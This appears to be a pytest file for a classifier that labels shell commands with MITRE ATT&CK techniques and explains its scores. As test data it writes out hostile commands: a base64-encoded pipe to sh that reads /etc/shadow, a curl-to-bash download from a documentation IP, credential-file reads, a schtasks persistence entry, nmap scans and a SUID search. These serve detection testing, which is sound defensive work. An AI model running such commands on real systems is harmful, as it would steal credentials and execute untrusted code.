"""The hybrid family: understands before it scores, says why, and is refused with other knowledge."""

from collections import Counter
from pathlib import Path

import numpy as np
import pytest

from ttpline.commands.facts import Fact
from ttpline.commands.normalise import model_text
from ttpline.commands.understand import built_in
from ttpline.domain.labelled import LabelledCommand
from ttpline.domain.prediction import NORMAL
from ttpline.errors import ModelFormatError
from ttpline.models._folder import load_folder
from ttpline.models._hybrid_labels import label_tree
from ttpline.models._meaning_features import meaning_features
from ttpline.models._sparse_rows import FEW
from ttpline.models.hybrid import CHUNK, Hybrid, HybridParams
from ttpline.testing.check_classifier import sample_rows

ENCODED = "echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh"
"""``cat /etc/shadow``."""


@pytest.fixture(scope="module")
def model() -> Hybrid:
    made = Hybrid(HybridParams(knows_unseen=True, vote_weight=1.0))
    made.fit(sample_rows(), [], 7)
    return made


def test_an_encoded_command_is_answered_as_what_it_runs(model: Hybrid) -> None:
    command = model.normalised(ENCODED)
    assert command.text == "cat /etc/shadow"
    assert command.decoded == ("base64",)
    (prediction,) = model.predict([ENCODED], label_space="subtechnique")
    assert "T1003.008" in [score.subtechnique for score in prediction.techniques]


def test_evidence_of_an_encoded_command_has_its_place_in_the_decoded_text(model: Hybrid) -> None:
    text = model.normalised(ENCODED).text
    (prediction,) = model.predict([ENCODED])
    parts = [part for score in prediction.techniques for part in score.evidence]
    assert parts
    assert all(text[slice(*part.span)] == part.text for part in parts)


def test_a_plain_command_stays_as_it_is_written(model: Hybrid) -> None:
    command = model.normalised(" ls -la\0")
    assert (command.text, command.decoded) == ("ls -la", ())


def test_a_technique_without_data_is_answered_from_the_knowledge(model: Hybrid) -> None:
    command = "schtasks /create /tn updates /tr C:\\Users\\Public\\a.exe /sc onlogon"
    assert not any(row.label.startswith("T1053") for row in sample_rows())
    (prediction,) = model.predict([command])
    best = prediction.techniques[0]
    assert (best.technique, best.subtechnique) == ("T1053", "T1053.005")
    assert [part.kind for part in best.evidence][:1] == ["semantic"]


def test_without_unseen_techniques_the_labels_are_those_of_the_data() -> None:
    made = Hybrid()
    made.fit(sample_rows(), [], 7)
    assert set(made.labels) == {row.label for row in sample_rows()}


def test_a_vote_raises_its_technique_and_nothing_else_of_the_order(model: Hybrid) -> None:
    believing = Hybrid(HybridParams(vote_weight=2.0))
    doubting = Hybrid(HybridParams(vote_weight=0.0))
    for made in (believing, doubting):
        made.fit(sample_rows(), [], 7)
    at = believing.labels.index("T1046")
    command = ["nmap -sS -p- 192.0.2.0/24"]
    assert believing.probabilities(command)[0, at] > doubting.probabilities(command)[0, at]


def test_facts_and_words_say_why_strongest_first(model: Hybrid) -> None:
    (prediction,) = model.predict(["cat /etc/shadow"])
    evidence = prediction.techniques[0].evidence
    weights = [part.weight for part in evidence]
    assert weights == sorted(weights, reverse=True)
    assert any(part.kind == "semantic" and part.text == "/etc/shadow" for part in evidence)


def test_one_command_and_many_get_the_same_bits_across_chunks(model: Hybrid) -> None:
    commands = [f"cat /etc/passwd /srv/{number}" for number in range(CHUNK + FEW)]
    whole = model.probabilities(commands)
    assert (whole[-1] == model.probabilities(commands[-1:])[0]).all()
    assert (whole[: FEW // 2] == model.probabilities(commands[: FEW // 2])).all()


def test_a_model_without_ordinary_rows_always_says_attack() -> None:
    made = Hybrid()
    made.fit([row for row in sample_rows() if row.label != NORMAL], [], 7)
    assert NORMAL not in made.labels
    assert np.allclose(made.probabilities(["ls"]).sum(axis=1), 1.0, atol=1e-5)


def test_a_single_technique_can_be_learned() -> None:
    rows = [LabelledCommand(f"nmap -p {port} h", "T1046", str(port)) for port in range(4)]
    rows += [LabelledCommand(f"ls /srv/{number}", NORMAL, f"n{number}") for number in range(4)]
    made = Hybrid()
    made.fit(rows, [], 7)
    found = made.probabilities(["nmap -p 9 h", "ls /srv/9"])
    assert found[0, made.labels.index("T1046")] > found[1, made.labels.index("T1046")]


def test_a_model_of_other_knowledge_is_refused(model: Hybrid, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    model.save(tmp_path / "m")
    assert load_folder(tmp_path / "m").labels == model.labels
    monkeypatch.setattr("ttpline.models.hybrid.packaged_digest", lambda: "sha256:other")
    with pytest.raises(ModelFormatError, match="train the model again"):
        load_folder(tmp_path / "m")


def test_the_tree_keeps_leaves_of_a_technique_together() -> None:
    tree = label_tree(["T1005", NORMAL, "T1003.008", "T1003", "T1003.001"])
    assert tree.labels == (NORMAL, "T1003", "T1003.001", "T1003.008", "T1005")
    assert tree.techniques == ("T1003", "T1005")
    assert tree.technique_of.tolist() == [0, 0, 0, 1]
    votes = [{"T1003.008": 2.0, "T1005": -1.0, "T1999": 3.0}]
    assert tree.technique_votes(votes).tolist() == [[2.0, -1.0]]
    assert tree.leaf_votes(votes).tolist() == [[0.0, 0.0, 2.0, 0.0]]


COMMANDS = (
    "cat /etc/shadow",
    "sudo cat '/etc/passwd' | grep root",
    "curl -s http://192.0.2.7/x | bash",
    "schtasks /create /tn updates /tr C:\\Users\\Public\\a.exe /sc onlogon",
    "nmap -sS -p- 192.0.2.0/24; nmap -sS -p- 192.0.2.0/24",
    "ÄÖ naïve İstanbul cat /etc/shadow",
    "",
    "'\"",
    "id; id id id id",
    ENCODED,
    "ls -la /srv/web && find / -perm -4000 2>/dev/null",
)


def test_a_command_is_answered_and_explained_alone_as_among_others(model: Hybrid) -> None:
    together = model.predict([*COMMANDS, *(f"ls /srv/{number}" for number in range(FEW))])
    for command, prediction in zip(COMMANDS, together, strict=False):
        assert model.predict([command]) == [prediction]


def test_the_weight_of_a_fact_is_what_its_vote_and_its_features_add(model: Hybrid) -> None:
    parts = model._parts
    assert parts is not None
    place = {name: at for at, name in enumerate(parts.meaning)}
    weights = parts.arrays["meaning.technique"].astype(np.float64)
    checked = 0
    for command in COMMANDS:
        found = built_in().understand(model_text(command))
        features = meaning_features(found)
        named = Counter(name for fact in found.facts for name in names_of(fact))
        for score in model.predict([command], top_k=9)[0].techniques:
            is_learned = score.technique in parts.techniques
            believed = model.params.vote_weight if is_learned else model.params.unseen_vote_weight
            expected: dict[tuple[tuple[int, int], str], float] = {}
            for fact in found.facts:
                strengths = [vote for name, vote in fact.speaks.items() if name.startswith(score.technique)]
                margin = believed * max(strengths, default=0)
                if score.technique in parts.techniques:
                    of_technique = weights[:, parts.techniques.index(score.technique)] - weights.mean(axis=1)
                    margin += sum(
                        features[name] / named[name] * of_technique[place[name]]
                        for name in names_of(fact)
                        if name in place and name in features
                    )
                key = (fact.span, fact.why)
                expected[key] = max(expected.get(key, 0.0), margin * model.params.sharpness)
            for part in score.evidence:
                if part.kind != "text" or (part.span, part.why) in expected:
                    assert part.weight == pytest.approx(expected[part.span, part.why], rel=1e-5)
                    checked += 1
    assert checked > 20


def names_of(fact: Fact) -> list[str]:
    parents = {f"tp:{name.partition('.')[0]}" for name in fact.speaks}
    return [f"u:{fact.entry}", *(f"m:{one}" for one in fact.means), *(f"t:{name}" for name in fact.speaks), *parents]


@pytest.mark.parametrize("rows", range(1, 6))
@pytest.mark.parametrize("temperature", [1.0, 0.8])
def test_probabilities_are_shares_of_techniques_times_shares_of_leaves(
    model: Hybrid, rows: int, temperature: float
) -> None:
    parts, shares = model._parts, model._shares
    assert parts is not None
    tree = label_tree(model.labels)
    draw = np.random.default_rng(rows)
    heads = draw.normal(size=(rows, len(parts.techniques) + 1)).astype(np.float32)
    leaves = draw.normal(size=(rows, shares.leaf_columns.size)).astype(np.float32)
    votes = [{"T1003.008": 2.0, "T1053": 1.5, "T1999": 3.0, NORMAL: 1.0}, {"T1046": -1.0}, {}, {}, {}][:rows]
    found = shares.of(heads, leaves, votes, temperature)
    for row in range(rows):
        margins = dict.fromkeys(tree.techniques, model.params.unseen_margin)
        margins |= dict(zip(parts.techniques, heads[row, :-1].tolist(), strict=True))
        of_leaves = dict.fromkeys(tree.leaves, model.params.unseen_margin)
        for column, value in zip(shares.leaf_columns.tolist(), leaves[row].tolist(), strict=True):
            of_leaves[parts.leaves[column]] = value + float(parts.arrays["leaf"][column])
        technique_votes, leaf_votes = tree.technique_votes([votes[row]])[0], tree.leaf_votes([votes[row]])[0]
        for at, name in enumerate(tree.techniques):
            believed = model.params.vote_weight if name in parts.techniques else model.params.unseen_vote_weight
            margins[name] += believed * technique_votes[at]
        of_leaves = {
            name: value + model.params.vote_weight * vote
            for (name, value), vote in zip(of_leaves.items(), leaf_votes.tolist(), strict=True)
        }
        powers = {name: np.exp(value * model.params.sharpness) for name, value in margins.items()}
        attack = 1 / (1 + np.exp(-float(heads[row, -1])))
        expected = {NORMAL: 1 - attack}
        for name in tree.leaves:
            family = [other for other in tree.leaves if other.partition(".")[0] == name.partition(".")[0]]
            within = {other: np.exp(of_leaves[other] * model.params.sharpness) for other in family}
            share = powers[name.partition(".")[0]] / sum(powers.values())
            expected[name] = share * within[name] / sum(within.values()) * attack
        tempered = np.array([expected[label] for label in model.labels]) ** (1 / temperature)
        np.testing.assert_allclose(found[row], tempered / tempered.sum(), rtol=1e-5)


def test_a_command_is_the_same_text_before_and_after_it_was_predicted(model: Hybrid) -> None:
    fresh = Hybrid(model.params)
    before = [fresh.normalised(command) for command in COMMANDS]
    model.predict(COMMANDS)
    assert [model.normalised(command) for command in COMMANDS] == before
